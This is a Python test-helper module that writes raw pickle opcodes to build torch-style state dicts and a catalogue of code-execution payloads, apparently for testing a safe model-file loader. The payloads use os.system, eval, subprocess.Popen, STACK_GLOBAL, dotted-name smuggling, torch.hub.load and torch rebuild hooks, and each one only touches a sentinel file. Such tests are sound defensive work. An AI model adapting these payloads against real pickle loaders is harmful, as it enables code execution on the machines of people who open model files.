"""Pickles written opcode by opcode, as no pickler would: without torch, and without running anything."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path

from .case import SENTINEL

STOP = b"."
PROTO = b"\x80\x02"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
EMPTY_TUPLE = b")"
MARK = b"("
TRUE, FALSE, NONE = b"\x88", b"\x89", b"N"
REDUCE = b"R"
BUILD = b"b"


def whole(body: bytes, proto: bytes = PROTO) -> bytes:
    """A pickle of one value."""
    return proto + body + STOP


def text(value: str) -> bytes:
    """A str; lone surrogates are written as picklers do."""
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + len(data).to_bytes(4, "little") + data


def number(value: int) -> bytes:
    """An int of any size up to 255 bytes."""
    if 0 <= value < 256:
        return b"K" + bytes([value])
    size = value.bit_length() // 8 + 1
    return b"\x8a" + bytes([size]) + value.to_bytes(size, "little", signed=True)


def real(value: float) -> bytes:
    """A float, as protocol 0 writes it."""
    return b"F" + repr(value).encode() + b"\n"


def a_tuple(*items: bytes) -> bytes:
    """A tuple of values."""
    return MARK + b"".join(items) + b"t"


def a_list(*items: bytes) -> bytes:
    """A list of values."""
    return EMPTY_LIST + MARK + b"".join(items) + b"e"


def a_dict(pairs: Iterable[tuple[bytes, bytes]]) -> bytes:
    """A dict of values."""
    return EMPTY_DICT + MARK + b"".join(key + value for key, value in pairs) + b"u"


def name(module: str, attribute: str) -> bytes:
    """What a module has under a name: a class or a function."""
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def call(function: bytes, *arguments: bytes) -> bytes:
    """A call of it."""
    return function + a_tuple(*arguments) + REDUCE


def ordered_dict(pairs: Iterable[tuple[bytes, bytes]]) -> bytes:
    """A collections.OrderedDict, as a state dict is."""
    made = name("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    return made + MARK + b"".join(key + value for key, value in pairs) + b"u"


def storage(key: str, elements: int, kind: str = "FloatStorage", module: str = "torch") -> bytes:
    """The reference to a storage of a torch file."""
    return a_tuple(text("storage"), name(module, kind), text(key), text("cpu"), number(elements)) + b"Q"


def tensor(
    key: str, elements: int, shape: list[int], strides: list[int] | None = None, offset: int = 0,
    kind: str = "FloatStorage",
) -> bytes:  # fmt: skip
    """A tensor that looks at a storage."""
    if strides is None:
        strides = [1] * len(shape)
        for index in range(len(shape) - 2, -1, -1):
            strides[index] = strides[index + 1] * shape[index + 1]
    return call(
        name("torch._utils", "_rebuild_tensor_v2"),
        storage(key, elements, kind),
        number(offset),
        a_tuple(*map(number, shape)),
        a_tuple(*map(number, strides)),
        FALSE,
        name("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE,
    )


def state_dict(names: Iterable[str] = ("weight",)) -> bytes:
    """A state dict of float32 [2, 3] tensors, all of storage 0, which has six elements."""
    return ordered_dict((text(each), tensor("0", 6, [2, 3])) for each in names)


def programs(folder: Path) -> dict[str, bytes]:
    """Values that would run code that makes the sentinel in `folder`: each way that a pickle has to call something."""
    command = f"touch {folder / SENTINEL}"
    path = str(folder / SENTINEL)
    system = name("os", "system")
    touch = name("pathlib", "Path.touch")
    short = path.encode()
    return {
        "reduce": call(system, text(command)),
        "reduce-posix": call(name("posix", "system"), text(command)),
        "eval": call(name("builtins", "eval"), text(f"open({path!r}, 'w')")),
        "exec-python2": call(name("__builtin__", "exec"), text(f"open({path!r}, 'w')")),
        "open": call(name("builtins", "open"), text(path), text("w")),
        "stack-global": b"\x8c\x02os\x8c\x06system\x93" + a_tuple(text(command)) + REDUCE,
        "inst": MARK + text(command) + b"ios\nsystem\n",
        "obj": MARK + system + text(command) + b"o",
        "newobj": name("subprocess", "Popen") + a_tuple(a_list(text("touch"), text(path))) + b"\x81",
        "newobj-ex": name("subprocess", "Popen") + a_tuple(a_list(text("touch"), text(path))) + EMPTY_DICT + b"\x92",
        "build": call(name("builtins", "eval"), text("object()")) + a_dict([(text("a"), text("b"))]) + BUILD,
        "dotted": b"\x8c\x05torch\x8c\x09os.system\x93" + a_tuple(text(command)) + REDUCE,
        "through-torch": call(name("torch.serialization", "os.system"), text(command)),
        "hub": call(name("torch.hub", "load"), text("evil/repo"), text("x")),
        "torch-load": call(name("torch", "load"), text(path)),
        "getattr": call(call(name("builtins", "getattr"), name("os", "path"), text("os")), text(command)),
        "reconstructor": call(name("copyreg", "_reconstructor"), touch, name("builtins", "object"), NONE),
        "code": call(name("types", "CodeType"), number(0)),
        "runpy": call(name("runpy", "_run_code"), text(f"open({path!r}, 'w')"), EMPTY_DICT),
        "numpy-load": call(name("numpy", "load"), text(path)),
        "extension": b"\x82\x01" + EMPTY_TUPLE + REDUCE,
        "persistent": b"P" + short + b"\n",
        "persistent-odd": call(system, text(command)) + b"Q",
        "key": a_dict([(call(system, text(command)), NONE)]),
        "deep": a_list(a_list(a_dict([(text("x"), call(system, text(command)))]))),
        "after-tensors": ordered_dict([(text("w"), tensor("0", 6, [2, 3])), (text("x"), call(system, text(command)))]),
        "rebuild-hook": call(
            name("torch._utils", "_rebuild_from_type_v2"), system, name("torch", "Tensor"), a_tuple(text(command)), NONE
        ),
        "backward-hooks": call(
            name("torch._utils", "_rebuild_parameter"), tensor("0", 6, [2, 3]), TRUE, call(system, text(command))
        ),
        "setstate": call(name("torch.nn.modules.linear", "Linear"), number(1), number(1)) + EMPTY_DICT + BUILD,
    }
